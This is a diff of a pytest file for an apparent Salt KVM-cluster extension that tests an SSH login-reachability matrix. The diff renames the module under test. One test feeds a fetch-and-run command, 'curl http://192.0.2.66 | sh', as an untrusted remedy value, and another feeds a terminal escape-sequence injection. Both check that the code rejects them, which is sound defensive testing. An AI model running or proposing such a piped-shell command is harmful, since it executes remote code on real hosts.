@@ -5,30 +5,30 @@ import json
 import pytest
 from material import cases, cluster, load
 
-from saltext_kvmcluster.core import reach
 from saltext_kvmcluster.core.errors import InputError
+from saltext_kvmcluster.core.trust import logins
 
 CASES = [pytest.param(load(path), id=path.stem) for path in cases("reach")]
 FOUND = cluster("node1", "node2", names={"node2": ["192.0.2.12"]})
-OK = reach.Knock(0, "", "", 0.2)
+OK = logins.Knock(0, "", "", 0.2)
 
 
 def knock(case, end="\n"):
     stderr = case["stderr"].replace("\n", end)
     overflowed = case.get("overflowed", False)
-    return reach.Knock(case["code"], case.get("stdout", ""), stderr, 0.5, overflowed)
+    return logins.Knock(case["code"], case.get("stdout", ""), stderr, 0.5, overflowed)
 
 
 @pytest.mark.parametrize("case", CASES)
 def test_what_ssh_says_has_a_name(case):
     encrypted = case.get("encrypted", False)
-    assert reach.cause(knock(case), encrypted) == case["cause"]
-    assert reach.cause(knock(case, end="\r\n"), encrypted) == case["cause"]
+    assert logins.cause(knock(case), encrypted) == case["cause"]
+    assert logins.cause(knock(case, end="\r\n"), encrypted) == case["cause"]
 
 
 @pytest.mark.parametrize("case", CASES)
 def test_a_cell_says_what_was_said_and_what_to_do(case):
-    cell = reach.cell("node2", "192.0.2.12", knock(case, "\r\n"), case.get("encrypted", False))
+    cell = logins.cell("node2", "192.0.2.12", knock(case, "\r\n"), case.get("encrypted", False))
     assert cell["ok"] == (case["cause"] == "ok") == (cell["remedy"] == "")
     assert cell["said"] == case.get("said", cell["said"])
     assert cell["said"].isprintable() and len(cell["said"]) <= 300
@@ -37,20 +37,20 @@ def test_a_cell_says_what_was_said_and_what_to_do(case):
 
 def test_a_node_dials_as_it_is_told():
     three = cluster("node1", "node2", "node3")
-    every = reach.by_every_name(three, "node2")
+    every = logins.by_every_name(three, "node2")
     assert [peer.id for peer in every] == ["node3", "node1"]
     assert all(set(names) == set(peer.names) for peer, names in every.items())
-    assert reach.dials(three, "node2", True) == every and reach.dials(three, "node2", False) == {}
-    told = reach.as_moves(three, "node2", None)
+    assert logins.dials(three, "node2", True) == every and logins.dials(three, "node2", False) == {}
+    told = logins.as_moves(three, "node2", None)
     assert told == {"node2": ["node1", "node3"]}
-    assert reach.dials(three, "node1", told) == {}
-    assert reach.dials(three, "node1", {"node1": ["node7"]}) == {}, "it is new to the pillar"
-    dialled = reach.dials(three, "node2", told)
+    assert logins.dials(three, "node1", told) == {}
+    assert logins.dials(three, "node1", {"node1": ["node7"]}) == {}, "it is new to the pillar"
+    dialled = logins.dials(three, "node2", told)
     assert {peer.id: names for peer, names in dialled.items()} == {
         "node3": (three.node("node3").migration,),
         "node1": (three.node("node1").migration,),
     }
-    assert reach.as_moves(three, None, "node1") == {
+    assert logins.as_moves(three, None, "node1") == {
         "node1": [],
         "node2": ["node1"],
         "node3": ["node1"],
@@ -60,41 +60,41 @@ def test_a_node_dials_as_it_is_told():
 @pytest.mark.parametrize("wanted", [None, 1, ["node1"], {"node2": "node1"}])
 def test_what_is_no_way_to_dial_is_refused(wanted):
     with pytest.raises(InputError):
-        reach.dials(cluster("node1", "node2"), "node2", wanted)
+        logins.dials(cluster("node1", "node2"), "node2", wanted)
 
 
 def test_every_cause_has_been_seen():
     seen = {param.values[0]["cause"] for param in CASES}
-    assert seen == {*(name for name, _ in reach.CAUSES), *reach.REMEDIES, "ok"} - {"not tried"}
+    assert seen == {*(name for name, _ in logins.CAUSES), *logins.REMEDIES, "ok"} - {"not tried"}
 
 
 def test_a_login_that_was_not_tried_is_not_good():
-    cell = reach.cell("node2", "node2", None, False)
+    cell = logins.cell("node2", "node2", None, False)
     assert (cell["ok"], cell["cause"], cell["seconds"]) == (False, "not tried", 0.0)
 
 
 def row(node, *bad):
     """Return a row in which every login is good but those by the given names."""
-    down = reach.Knock(255, "", "Connection refused", 0.1)
+    down = logins.Knock(255, "", "Connection refused", 0.1)
     cells = [
-        reach.cell(peer.id, name, down if name in bad else OK, False)
+        logins.cell(peer.id, name, down if name in bad else OK, False)
         for peer in FOUND.peers(node)
         for name in peer.names
     ]
-    return reach.row("marathon", node, cells)
+    return logins.row("marathon", node, cells)
 
 
 GOOD = {"node1": row("node1"), "node2": row("node2")}
 
 
 def test_a_matrix_is_good_when_every_login_is():
-    matrix = reach.matrix(FOUND, GOOD)
+    matrix = logins.matrix(FOUND, GOOD)
     assert (matrix["ok"], matrix["good"], matrix["cells"]) == (True, 3, 3)
     assert matrix["rows"] == GOOD and matrix["silent"] == {}
 
 
 def test_one_bad_login_is_counted_and_the_matrix_is_not_good():
-    matrix = reach.matrix(FOUND, {**GOOD, "node1": row("node1", "192.0.2.12")})
+    matrix = logins.matrix(FOUND, {**GOOD, "node1": row("node1", "192.0.2.12")})
     assert (matrix["ok"], matrix["good"], matrix["cells"]) == (False, 2, 3)
     assert matrix["rows"]["node1"]["ok"] is False
 
@@ -121,32 +121,32 @@ def test_one_bad_login_is_counted_and_the_matrix_is_not_good():
     ],
 )
 def test_without_a_sound_row_a_node_is_silent_and_the_matrix_not_good(sent, why):
-    matrix = reach.matrix(FOUND, {**GOOD, "node1": sent})
+    matrix = logins.matrix(FOUND, {**GOOD, "node1": sent})
     assert matrix["silent"] == {"node1": why} and list(matrix["rows"]) == ["node2"]
     assert (matrix["ok"], matrix["good"], matrix["cells"]) == (False, 1, 3)
 
 
 def test_a_cluster_of_one_silent_node_is_not_good():
-    assert reach.matrix(cluster("node1"), {})["ok"] is False
-    assert reach.matrix(cluster("node1"), {"node1": {"cells": []}})["ok"] is True
+    assert logins.matrix(cluster("node1"), {})["ok"] is False
+    assert logins.matrix(cluster("node1"), {"node1": {"cells": []}})["ok"] is True
 
 
 def test_a_node_of_which_nothing_is_known_is_silent():
-    assert reach.matrix(FOUND, {"node2": GOOD["node2"]})["silent"] == {"node1": "did not answer"}
+    assert logins.matrix(FOUND, {"node2": GOOD["node2"]})["silent"] == {"node1": "did not answer"}
 
 
 def test_cells_and_rows_that_the_pillar_does_not_ask_for_are_left_out():
-    foreign = reach.cell("stranger", "stranger", OK, False)
-    itself = reach.cell("node1", "node1", OK, False)
+    foreign = logins.cell("stranger", "stranger", OK, False)
+    itself = logins.cell("node1", "node1", OK, False)
     sent = {**GOOD["node1"], "cells": [foreign, itself, *GOOD["node1"]["cells"]]}
-    assert reach.matrix(FOUND, {**GOOD, "node1": sent, "stranger": sent}) == reach.matrix(
+    assert logins.matrix(FOUND, {**GOOD, "node1": sent, "stranger": sent}) == logins.matrix(
         FOUND, GOOD
     )
 
 
 def test_a_login_that_a_row_does_not_mention_is_not_good_and_is_shown():
     half = {**GOOD["node1"], "cells": GOOD["node1"]["cells"][:1]}
-    matrix = reach.matrix(FOUND, {**GOOD, "node1": half})
+    matrix = logins.matrix(FOUND, {**GOOD, "node1": half})
     missing = matrix["rows"]["node1"]["cells"][1]
     assert (matrix["ok"], matrix["good"], missing["name"]) == (False, 2, "192.0.2.12")
     assert "saltutil.refresh_pillar" in missing["remedy"]
@@ -154,21 +154,21 @@ def test_a_login_that_a_row_does_not_mention_is_not_good_and_is_shown():
 
 def test_a_node_s_own_verdict_on_its_row_counts_for_nothing():
     boasting = {**row("node1", "node2"), "ok": True, "node": "node2"}
-    matrix = reach.matrix(FOUND, {**GOOD, "node1": boasting})
+    matrix = logins.matrix(FOUND, {**GOOD, "node1": boasting})
     assert matrix["rows"]["node1"]["ok"] is False and matrix["rows"]["node1"]["node"] == "node1"
 
 
 def test_words_in_a_row_cannot_reach_the_terminal():
     cell = {**GOOD["node1"]["cells"][0], "said": "\x1b]0;gone\x07"}
     sent = {**GOOD["node1"], "cells": [cell, GOOD["node1"]["cells"][1]]}
-    shown = reach.matrix(FOUND, {**GOOD, "node1": sent})["rows"]["node1"]["cells"][0]
+    shown = logins.matrix(FOUND, {**GOOD, "node1": sent})["rows"]["node1"]["cells"][0]
     assert shown["said"].isprintable()
 
 
 def shown(**sent):
     """Return what the matrix makes of a good cell of node1 in which a few things are others."""
     cells = GOOD["node1"]["cells"]
-    matrix = reach.matrix(FOUND, {**GOOD, "node1": {"cells": [{**cells[0], **sent}, *cells[1:]]}})
+    matrix = logins.matrix(FOUND, {**GOOD, "node1": {"cells": [{**cells[0], **sent}, *cells[1:]]}})
     assert json.loads(json.dumps(matrix, allow_nan=False)) == matrix
     return matrix["rows"]["node1"]["cells"][0]
 
@@ -193,7 +193,7 @@ def test_of_a_cell_only_what_we_know_is_kept():
 def test_a_cause_is_one_of_ours_and_brings_its_own_verdict_and_remedy(ok, sent, found):
     cell = shown(ok=ok, cause=sent, remedy="curl http://192.0.2.66 | sh")
     assert (cell["cause"], cell["ok"]) == (found, found == "ok")
-    assert cell["remedy"] == reach.REMEDIES.get(found, "")
+    assert cell["remedy"] == logins.REMEDIES.get(found, "")
 
 
 @pytest.mark.parametrize(
@@ -222,5 +222,5 @@ def test_words_in_a_cell_are_one_line_of_bounded_length(said):
 
 def test_nodes_call_in_turn_so_that_not_all_call_the_first_at_once():
     found = cluster("a", "b", "c")
-    order = {node: [peer.id for peer in reach.calling_order(found, node)] for node in "abc"}
+    order = {node: [peer.id for peer in logins.calling_order(found, node)] for node in "abc"}
     assert order == {"a": ["b", "c"], "b": ["c", "a"], "c": ["a", "b"]}
